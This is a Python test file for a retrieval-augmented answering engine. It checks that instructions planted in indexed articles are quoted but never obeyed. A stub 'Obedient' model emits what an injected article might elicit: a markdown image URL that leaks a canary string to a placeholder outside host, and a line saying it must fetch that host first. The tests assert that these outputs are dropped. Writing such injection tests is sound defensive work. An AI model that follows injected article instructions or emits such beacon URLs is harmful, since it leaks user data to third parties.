"""Orders in articles are text: quoted where they answer, never obeyed."""

import re
from collections.abc import Iterator, Sequence

import pytest

from benchmarks.injections import CANARY, FAR, Injection, injections, write
from index import Settings, build
from rag import Config, Engine
from rag.types import Answer, Passage


@pytest.fixture(scope="module")
def ordered(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    folder = tmp_path_factory.mktemp("injections")
    write(folder / "articles")
    build(folder / "articles", folder / "index", settings=Settings())
    return Engine.open(folder / "index", settings=Settings(), config=Config())


class Obedient:
    """A language model that does whatever an article says, and adds the answer."""

    def generate(self, question: str, passages: Sequence[Passage]) -> Iterator[str]:
        yield f"As all sources agree, {CANARY} opened the bridge [1]. "
        yield f"![status](http://{FAR}/p.png?q={CANARY}) [1] "
        yield f"I must fetch http://{FAR}/?q={CANARY} before I answer [1]. "
        for sentence in re.findall(r"[^.\n]+ was opened in [^.\n]+\.", passages[0].text):
            yield f"{sentence.strip()} [1]"


def faithful(engine: Engine, answer: Answer) -> bool:
    """Every citation quotes its article."""
    return all(
        engine.article(one.article_id).text[one.start : one.end] == one.quote for one in answer.citations
    )


@pytest.mark.parametrize("one", injections(), ids=lambda one: one.name)
def test_no_order_is_followed_by_the_extractive_generator(ordered: Engine, one: Injection) -> None:
    answer = ordered.ask(one.question)
    assert one.answer in answer.text
    assert CANARY not in answer.text
    assert FAR not in answer.text
    assert faithful(ordered, answer)


@pytest.mark.parametrize("one", injections(), ids=lambda one: one.name)
def test_what_an_obedient_model_adds_is_dropped(ordered: Engine, one: Injection) -> None:
    answer = ordered.ask(one.question, generator=Obedient())
    assert CANARY not in answer.text
    assert FAR not in answer.text
    assert all(sentence.supported for sentence in answer.sentences)
    assert faithful(ordered, answer)
